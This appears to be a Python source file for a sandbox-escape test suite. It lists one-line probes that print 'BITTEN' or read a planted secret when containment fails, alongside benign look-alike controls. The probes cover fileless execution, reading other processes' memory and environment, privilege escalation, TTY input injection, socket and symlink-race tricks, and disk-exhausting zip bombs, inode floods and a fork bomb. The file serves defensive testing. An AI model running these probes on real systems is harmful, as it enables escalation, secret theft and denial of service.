"""Attacks that a program with a C library can make: calls into the kernel, other processes, races, and full disks."""

# ruff: noqa: E501 - attacks are read as they are typed
from __future__ import annotations

_FIRST = (
    'import ctypes,os; l=ctypes.CDLL(None,use_errno=True); yes=lambda n: print("BITTEN" if n>=0 else "no",flush=True)\n'
)


def _python(code: str) -> str:
    return f"{{P}} -c '{code}'"


def _call(code: str) -> str:
    """A program of lines with `l` the C library and `yes` what says BITTEN of a number that is no error."""
    return _python(_FIRST + code)


MEMORY = (
    # What runs without ever having been a file.
    _call('f=os.memfd_create("x"); os.write(f,open("/bin/echo","rb").read()); os.execve(f,["echo","BITTEN"],{{}})'),
    _call(
        'f=l.syscall(319,b"x",0); os.write(f,open("/bin/echo","rb").read()); a=(ctypes.c_char_p*3)(b"echo",b"BITTEN",None); l.syscall(322,f,b"",a,None,0x1000)'
    ),
    _call("yes(l.syscall(447,0))") + " || true; " + _call('yes(l.syscall(319,b"secret",0))'),
    # Of other processes.
    _call("yes(l.syscall(310,{V},None,0,None,0,0))"),
    _call("yes(l.syscall(311,{V},None,0,None,0,0))"),
    _call('f=os.open("/proc/{V}/mem",os.O_RDWR); yes(f)'),
    _call('f=os.open("/proc/{B}/mem",os.O_RDONLY); yes(f)'),
    _call('os.listdir("/proc/{V}/fd"); os.readlink("/proc/{V}/cwd"); yes(0)'),
    _call("yes(l.syscall(438,os.pidfd_open({V}),0,0))"),
    _call("yes(l.syscall(312,{V},{V},3,0,0))"),
    _call("yes(l.syscall(324,4,0,0))") + " > /dev/null; " + _call("yes(l.syscall(310,{B},None,0,None,0,0))"),
    # Of its own brothers and sisters: one that asks in the other's name.
    _call(
        "import time,signal\np=os.fork()\nif p==0: time.sleep(3); os._exit(0)\nyes(l.ptrace(16,p,0,0)); os.kill(p,9)"
    ),
    _call("import time\np=os.fork()\nif p==0: time.sleep(3); os._exit(0)\nyes(l.ptrace(0x4206,p,0,0)); os.kill(p,9)"),
    _call("yes(l.ptrace(0,0,0,0))"),
)
PRIVILEGES = (
    _call('print("BITTEN" if l.prctl(39,0,0,0,0)==0 else "no")'),
    _call('os.chown("a.txt",0,0); os.chmod("a.txt",0o4755); yes(0)'),
    _call("os.setgroups([0]); yes(0)"),
    _call("os.setresuid(0,0,0); yes(0)"),
    _call("yes(l.syscall(135,0xffffffff))"),
    _call(
        "l.syscall(126,(ctypes.c_uint32*2)(0x20080522,0),(ctypes.c_uint32*6)(*[0xffffffff]*6))\nyes(os.setreuid(0,0) or 0)"
    ),
    "su -c 'cat {O}/secret'",
    "setpriv --reuid 0 cat {O}/secret",
    "chroot / cat {O}/secret",
    "nsenter -t {B} -m cat {O}/secret",
    "unshare --map-root-user --mount cat {O}/secret",
    "runuser -u root -- cat {O}/secret",
)
INTERFACES = (
    _call("yes(l.syscall(425,1,ctypes.create_string_buffer(200)))"),
    _call("import mmap\nb=ctypes.create_string_buffer(200); f=l.syscall(425,8,b); yes(f); mmap.mmap(f,4096)"),
    _call("yes(l.syscall(323,1))"),
    _call("yes(l.syscall(300,0,0))"),
    _call("yes(l.syscall(298,ctypes.create_string_buffer(bytes([1,0,0,0,112,0,0,0])+bytes(104)),0,-1,-1,0))"),
    _call('yes(l.syscall(428,-100,b"/",0))'),
    _call('yes(l.syscall(430,b"tmpfs",0))'),
    _call('yes(l.syscall(308,os.open("/proc/{V}/ns/net",os.O_RDONLY),0))'),
    _call("yes(l.syscall(435,(ctypes.c_uint64*11)(0x10000000,0,0,0,17,0,0,0,0,0,0),88)) or os._exit(0)"),
    _call('yes(l.syscall(240,b"bench",0o102,0o600,0)); l.syscall(241,b"bench")'),
    _call('import fcntl\nm,s=os.openpty(); fcntl.ioctl(s,0x5412,b"x"); yes(0)'),
    _call('import fcntl\nm,s=os.openpty(); fcntl.ioctl(s,0x541C,b"\\2"); yes(0)') + " || cat {O}/secret",
    _call('yes(os.open("/proc/sys/vm/drop_caches",os.O_WRONLY))'),
    _call('yes(os.open("/proc/sys/kernel/core_pattern",os.O_WRONLY))'),
    _call('yes(os.open("/dev/kmsg",os.O_RDONLY))') + " || cat {O}/secret",
    "ls /sys/class/net /sys/kernel && echo BITTEN",
    "cat /proc/net/unix /proc/net/tcp | grep -q : && cat /proc/{V}/environ && echo BITTEN",
)
SOCKETS = (
    _python('import socket; s=socket.socket(1,1); s.connect(b"\\0{A}"); s.send(b"x")'),
    _python('import socket; a,b=socket.socketpair(); c=socket.socket(1,1); c.connect("{X}"); socket.send_fds(c,[b"x"],[a.fileno()])'),
    _python('import socket; s=socket.socket(1,2); s.bind("\\0bench-mine"); s.sendto(b"x","{X}")') + "; " + _python('import socket; socket.socket(1,1).connect("{X}")'),
    _python('import os; os.symlink("{X}","line"); import socket; socket.socket(1,1).connect("line")'),
    _python('import os; os.link("{X}","line"); import socket; socket.socket(1,1).connect("line")'),
    _python('import socket; socket.socket(socket.AF_INET,socket.SOCK_RAW,1); print("BITTEN")'),
    _python('import socket; socket.socket(socket.AF_PACKET,socket.SOCK_RAW); print("BITTEN")'),
    _python('import socket; s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262); print("BITTEN")') + " || " + _python('import socket; socket.socket(2,1); print("BITTEN")'),
    _python('import socket; s=socket.socket(); s.setsockopt(6,23,5); s.sendto(b"x",0x20000000,("127.0.0.1",{T}))'),
)  # fmt: skip
LINKS = (
    "ln a.txt {O}/out",
    "ln -s {O}/secret l; ln -L l mine && cat mine",
    _python('import os; f=os.open("{O}",os.O_TMPFILE|os.O_RDWR); print("BITTEN")'),
    _python('import os; d=os.open("{O}",os.O_PATH); print(open(os.open("secret",os.O_RDONLY,dir_fd=d)).read())'),
    _python('import os; f=os.open("{O}/secret",os.O_PATH); print(open("/proc/self/fd/%d"%f).read())'),
    _python('import os\nos.mkdir("d"); os.symlink("{O}","s")\nif os.fork()==0:\n  for _ in range(300): os.rename("d","t"); os.rename("s","d"); os.rename("d","s"); os.rename("t","d")\n  os._exit(0)\nfor _ in range(3000):\n  try: print(open("d/secret").read())\n  except OSError: pass\n') + "; cat s/secret",
    "cp --reflink=auto {O}/secret mine && cat mine",
    "rsync -a {O}/ mine/ 2>/dev/null; cp -a {O} mine2; cat mine*/secret",
    "touch -- '-rf' '--help' $'new\\nline' && cat -- {O}/secret",
    "mkdir -p \"$(printf '\\342\\200\\256')\" && cd \"$(printf '\\342\\200\\256')\" && cat {O}/secret",
)  # fmt: skip
#: Beside those that fill by plain writing: what a count of bytes or of files could overlook.
FULL = (
    "truncate -s 10T big; for i in $(seq 5000); do truncate -s 60M s$i; done",
    _python('import os\nfor i in range(100000): os.close(os.open("f%d"%i,os.O_CREAT|os.O_WRONLY))'),
    _python('import os\nfor i in range(100000): os.symlink("x"*4000,"l%d"%i)'),
    _python('import os\nopen("one","w").close()\nfor i in range(100000): os.link("one","h%d"%i)'),
    _python('import os\nfor i in range(100000): os.mkdir("d%d"%i)'),
    _python('import os\nfor i in range(100000): os.mkfifo("p%d"%i)'),
    _python('import os\nfor i in range(100000): f=open(chr(0x4e00+i%20000)*40+str(i),"w"); f.write("x")'),
    _python('import os\nfor i in range(200):\n  f=os.open("g%d"%i,os.O_CREAT|os.O_RDWR)\n  os.posix_fallocate(f,0,60<<20)'),
    _python('import os\nwhile True:\n  try: os.setxattr("a.txt","user.%d"%os.getpid(),b"x"*60000); os.fork()\n  except OSError: os._exit(0)'),
    # A kilobyte that becomes gigabytes, from one archive and from one within another.
    _python('import zipfile\nz=zipfile.ZipFile("z.zip","w",zipfile.ZIP_DEFLATED)\nfor i in range(300): z.writestr("f%d"%i,bytes(60<<20))\nz.close()\nzipfile.ZipFile("z.zip").extractall()'),
    _python('import zlib\nd=zlib.compressobj(9); s=b"".join(d.compress(bytes(1<<20)) for _ in range(3000))+d.flush()\nprint(len(zlib.decompress(s)))'),
    "dd if=/dev/zero bs=1M count=60 2>/dev/null | gzip > z.gz; for i in $(seq 200); do zcat z.gz > f$i; done",
    "mkdir -- -rf --; cd -- -rf; while :; do echo x > ./-$RANDOM$RANDOM; done",
    "while :; do mkdir -m 000 d$RANDOM; echo x > f$RANDOM; done",
    "cd /tmp && for i in $(seq 300); do dd if=/dev/zero of=f$i bs=1M count=60 2>/dev/null || exit; done",
    "cd /dev/shm && for i in $(seq 300); do dd if=/dev/zero of=f$i bs=1M count=60 2>/dev/null || exit; done",
)  # fmt: skip
LOOK_ALIKES = (
    "touch -- '-rf' && ls -- '-rf' && rm -- '-rf'", "echo x > 'ä ö 日本.txt' && cat 'ä ö 日本.txt'", "truncate -s 1M holes && wc -c holes",
    "for i in $(seq 1000); do echo x > f$i; done; ls | wc -l", "ln -s a.txt one && ln -s one two && cat two", "ln a.txt b && ln b c && stat -c %h c",
    "gzip < a.txt | zcat", "mkdir -p a/b/c && touch a/b/c/d && find a -name d -delete", "head -c 20000000 /dev/zero > big && rm big",
    _python('import zipfile; z=zipfile.ZipFile("z.zip","w",8); z.writestr("a",bytes(1<<20)); z.close(); zipfile.ZipFile("z.zip").extractall("out")'),
    _python('import os; a,b=os.pipe(); os.write(b,b"x"); print(os.read(a,1))'),
    _python('import socket; a,b=socket.socketpair(); a.send(b"x"); print(b.recv(1))'),
    _python('import mmap; m=mmap.mmap(-1,1<<20); m.write(b"x"); print(len(m))'),
    _python("import os,signal; p=os.fork()\nif p==0: signal.pause()\nos.kill(p,15); print(os.waitpid(p,0)[1])"),
    _python('import fcntl; f=open("lock","w"); fcntl.flock(f,2); fcntl.lockf(f,2); print("locked")'),
    _python("import os; print(os.sched_getaffinity(0), os.getpriority(0,0))"),
    _python("import concurrent.futures as c; print(sum(c.ThreadPoolExecutor(8).map(abs,range(100))))"),
    _python("import time,resource; print(resource.getrlimit(resource.RLIMIT_NOFILE), time.monotonic())"),
)  # fmt: skip
